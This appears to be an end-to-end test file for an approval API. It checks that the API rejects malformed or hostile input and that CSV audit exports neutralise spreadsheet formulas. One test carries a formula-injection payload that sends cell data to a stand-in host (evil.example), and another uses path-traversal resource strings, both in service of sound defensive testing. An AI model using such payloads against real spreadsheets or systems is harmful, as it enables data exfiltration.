import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { connect } from 'node:net';
import { client, KEYS, type Client } from '../support/api-client.ts';
import { removeDir, startCountersign, type RunningCountersign, SHAPE } from '../support/countersign-process.ts';
import { until } from '../support/until.ts';
import { E2E_ENV } from '../support/e2e-env.ts';
import { assertProblem } from '../support/problems.ts';

const LONE = 'bye \ud800';
/** Sends raw bytes over TCP and returns everything the server answers before it closes. */
function rawExchange(url: string, request: string): Promise<string> {
  const { hostname, port } = new URL(url);
  return new Promise((resolve, reject) => {
    let answer = '';
    const socket = connect({ host: hostname, port: Number(port) }, () => socket.write(request));
    socket.on('data', (chunk) => void (answer += chunk));
    socket.on('end', () => resolve(answer));
    socket.on('error', reject);
  });
}

const nested = (depth: number) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;

/** Issue 9: hostile input is refused precisely at the boundary, changes nothing and never stops a decision. */
describe(`hostile input never stops a decision (${SHAPE})`, () => {
  let cs: RunningCountersign;
  let agent: Client, alice: Client, bob: Client, carol: Client, erin: Client;
  let pendingId: string;
  const chainLength = async (id: string) => (await carol.get(`/v1/actions/${id}/events`)).body.events.length;
  /** A routine proposal is still decided at once: nothing before it wedged the system. */
  const routine = async () => {
    const res = await agent.propose({ action: 'data.read', resource: 'prod/orders' });
    assert.equal(res.status, 201, res.text);
    assert.equal(res.body.status, 'approved');
  };

  before(async () => {
    cs = await startCountersign({ env: E2E_ENV });
    [agent, alice, bob, carol, erin] = [KEYS.agent, KEYS.alice, KEYS.bob, KEYS.carol, KEYS.erin].map((k) => client(cs.url, k));
    pendingId = (await agent.propose({ action: 'data.export', resource: 'prod/x' })).body.id;
    // Chains are compared before and after: start from the whole chain (a read model, behind the answer).
    await until(async () => (await carol.get(`/v1/actions/${pendingId}/events`)).body.events?.some((e: { type: string }) => e.type === 'ApprovalRequested'), 'the pending chain projected');
  });
  after(async () => {
    await cs.stop();
    await removeDir(cs.dataDir);
  });

  it('refuses a lone surrogate in any free text, naming the field, and decisions go on', async () => {
    const before = await chainLength(pendingId);
    assertProblem(await agent.post(`/v1/actions/${pendingId}/cancel`, { reason: LONE }), 400, { pointer: '/reason' });
    assertProblem(await bob.post(`/v1/actions/${pendingId}/approve`, { comment: LONE }), 400, { pointer: '/comment' });
    assertProblem(await bob.post(`/v1/actions/${pendingId}/deny`, { reason: LONE }), 400, { pointer: '/reason' });
    assertProblem(await bob.post(`/v1/actions/${pendingId}/review`, { verdict: 'upheld', comment: LONE }), 400, { pointer: '/comment' });
    assertProblem(await agent.propose({ action: 'data.read', resource: 'prod/x', justification: LONE }), 400, { pointer: '/justification' });
    assertProblem(await agent.propose({ action: 'data.read', resource: `prod/${LONE}` }), 400, { pointer: '/resource' });
    assertProblem(await agent.propose({ action: 'data.read', resource: 'r', params: { note: LONE } }), 400, { pointer: '/params/note' });
    assertProblem(await agent.propose({ action: 'data.read', resource: 'r', context: { [LONE]: 1 } }), 400, { pointer: `/context/${LONE}` });
    // the same surrogate sent as raw bytes (CESU-8) is not UTF-8 at all
    const raw = Buffer.concat([Buffer.from('{"action":"data.read","resource":"'), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from('"}')]);
    assertProblem(await agent.call('POST', '/v1/actions', raw), 400, { pointer: '' });
    assert.equal(await chainLength(pendingId), before);
    await routine();
  });

  it('refuses params nested too deep, naming the field, before anything else touches them', async () => {
    const deep = await agent.call('POST', '/v1/actions', `{"action":"data.read","resource":"r","params":${nested(1600)}}`);
    assertProblem(deep, 400);
    assert.match(deep.body.errors[0].pointer, /^\/params(\/a)+$/);
    const deeper = await agent.call('POST', '/v1/actions', `{"action":"data.read","resource":"r","context":${nested(10_000)}}`);
    assertProblem(deeper, 400);
    assert.match(deeper.body.errors[0].pointer, /^\/context(\/a)+$/);
    assertProblem(await agent.call('POST', '/v1/actions', `{"action":"data.read","resource":"r","params":${nested(20_000)}}`), 413);
    await routine();
  });

  it('accepts params right at the limits, and stores and shows them unchanged', async () => {
    let deep: unknown = 'bottom';
    for (let level = 1; level < 32; level += 1) deep = level % 2 ? [deep] : { [`k.$${level}`]: deep };
    const params = { deep, long: 'é'.repeat(16_384), many: Object.fromEntries(Array.from({ length: 250 }, (_, i) => [`key${i}`, i])) };
    const res = await agent.propose({ action: 'data.read', resource: 'prod/orders', params });
    assert.deepEqual([res.status, res.body.status], [201, 'approved'], res.text.slice(0, 300));
    assert.deepEqual((await agent.get(`/v1/actions/${res.body.id}`)).body.params, params);
    assertProblem(await agent.propose({ action: 'data.read', resource: 'prod/orders', params: { deep: [deep] } }), 400);
  });

  it('takes JSON in UTF-8 only, with each key once', async () => {
    const body = JSON.stringify({ action: 'data.read', resource: 'prod/orders' });
    assertProblem(await agent.call('POST', '/v1/actions', body, { 'content-type': 'application/json; charset=iso-8859-1' }), 415, { header: 'Content-Type' });
    assertProblem(await agent.call('POST', '/v1/actions', body, { 'content-type': 'application/json; charset=utf-16' }), 415, { header: 'Content-Type' });
    assertProblem(await agent.call('POST', '/v1/actions', body, { 'content-encoding': 'gzip' }), 415, { header: 'Content-Encoding' });
    assertProblem(await agent.call('POST', '/v1/actions', '{"action":"data.read","resource":"staging/a","resource":"prod/b"}'), 400, { pointer: '/resource' });
    assertProblem(await bob.call('POST', `/v1/actions/${pendingId}/deny`, '{"reason":"no","reason":""}'), 400, { pointer: '/reason' });
    assert.equal((await agent.call('POST', '/v1/actions', body, { 'content-type': 'application/json; charset=UTF-8' })).status, 201);
  });

  it('authenticates before it reads a body, and reads at most the route\'s limit', async () => {
    const anon = client(cs.url);
    for (const [body, headers] of [['{"action":', {}], ['x'.repeat(2_000_000), {}], ['action=x', { 'content-type': 'text/plain' }]] as const) {
      assertProblem(await anon.call('POST', '/v1/actions', body, headers), 401, { header: 'Authorization' });
      assertProblem(await client(cs.url, 'not-a-key').call('POST', `/v1/actions/${pendingId}/approve`, body, headers), 401, { header: 'Authorization' });
    }
    const proposal = (size: number) => JSON.stringify({ action: 'data.read', resource: 'r', justification: 'j'.repeat(size) });
    assertProblem(await agent.call('POST', '/v1/actions', proposal(64 * 1024)), 413);
    // a policy publication carries whole files: read and checked (422), where a proposal that size is refused unread
    const policy = JSON.stringify({ files: [{ path: 'big.yaml', text: `# ${'x'.repeat(200_000)}\nnot: a policy\n` }] });
    assertProblem(await agent.call('POST', '/v1/policies', policy), 422);
    assertProblem(await agent.call('POST', '/v1/actions', policy), 413);
    assertProblem(await agent.call('POST', '/v1/policies', JSON.stringify({ files: [{ path: 'big.yaml', text: 'x'.repeat(1024 * 1024) }] })), 413);
  });

  it('answers requests that are not valid HTTP with a problem as well', async () => {
    const huge = await rawExchange(cs.url, `GET /v1/actions HTTP/1.1\r\nHost: x\r\nX-Pad: ${'a'.repeat(20_000)}\r\n\r\n`);
    assert.match(huge, /^HTTP\/1\.1 431 [^\r]*\r\nContent-Type: application\/problem\+json\r\n/);
    assert.equal(JSON.parse(huge.slice(huge.indexOf('\r\n\r\n') + 4)).status, 431);
    const broken = await rawExchange(cs.url, 'POST /v1/actions HTTP/1.1\r\nHost: x\r\nNot a header\r\n\r\n');
    assert.match(broken, /^HTTP\/1\.1 400 [^\r]*\r\nContent-Type: application\/problem\+json\r\n/);
    await routine();
  });

  it('gives a resource one spelling, naming the canonical one', async () => {
    const spellings = ['prod/./orders', './prod/orders', '/prod/orders', 'staging/../prod/orders', 'prod//orders'];
    for (const resource of spellings) {
      const res = await agent.propose({ action: 'data.export', resource });
      assertProblem(res, 400, { pointer: '/resource' });
      assert.match(res.body.errors[0].detail, /send "prod\/orders"/, resource);
    }
    assertProblem(await agent.propose({ action: 'data.export', resource: 'prod%2Forders' }), 400, { pointer: '/resource' });
  });

  it('tells someone who cannot see an action nothing on a vote, cancel or review, and adds nothing to its chain', async () => {
    const before = await chainLength(pendingId);
    const unknown = await erin.post('/v1/actions/00000000-0000-7000-8000-000000000000/approve', {});
    assertProblem(unknown, 404);
    const attempts = {
      approve: {}, deny: { reason: 'no' }, cancel: { reason: 'mine now' }, review: { verdict: 'concerns', comment: 'who did this' },
    };
    for (const [verb, body] of Object.entries(attempts)) {
      const res = await erin.post(`/v1/actions/${pendingId}/${verb}`, body);
      assertProblem(res, 404);
      assert.deepEqual([res.body.type, res.body.title], [unknown.body.type, unknown.body.title], verb);
      assert.doesNotMatch(res.text, /pending|demo-agent|prod-export|data-stewards/, verb);
    }
    assert.equal(await chainLength(pendingId), before);
  });

  it('counts approvals as the router does: two from one group are one under distinct groups', async () => {
    const big = await agent.propose({ action: 'data.share', resource: 'prod/customers' });
    assert.deepEqual([big.body.status, big.body.approval.distinctGroups, big.body.approval.quorum], ['pending', true, 2]);
    assert.equal((await alice.post(`/v1/actions/${big.body.id}/approve`, {})).body.approval.approvals, 1);
    const second = await bob.post(`/v1/actions/${big.body.id}/approve`, {});
    assert.deepEqual([second.body.status, second.body.approval.approvals], ['pending', 1]);
    assert.equal((await erin.post(`/v1/actions/${big.body.id}/approve`, {})).body.status, 'approved');
  });

  it('neutralises CSV cells a spreadsheet would run as formulas', async () => {
    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
    const { body } = await agent.propose({ action: 'data.read', resource: 'prod/orders', justification: formula });
    // The audit trail is a read model: wait until the projector has written the proposal.
    const audited = async () => (await carol.get('/v1/audit?type=ActionProposed&requester=demo-agent&limit=1000')).body.items.some((e: { actionId: string }) => e.actionId === body.id);
    await until(audited, 'the proposal in the audit trail');
    const csv = (await carol.get('/v1/audit?type=ActionProposed&requester=demo-agent&limit=1000', { accept: 'text/csv' })).text;
    const line = csv.split('\n').find((l) => l.includes(body.id));
    assert.ok(line?.includes(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`), line);
    const json = (await carol.get('/v1/audit?type=ActionProposed&requester=demo-agent&limit=1000')).body.items.find((e: { actionId: string }) => e.actionId === body.id);
    assert.equal(json.reason, formula, 'the JSON keeps the text as recorded');
  });
});
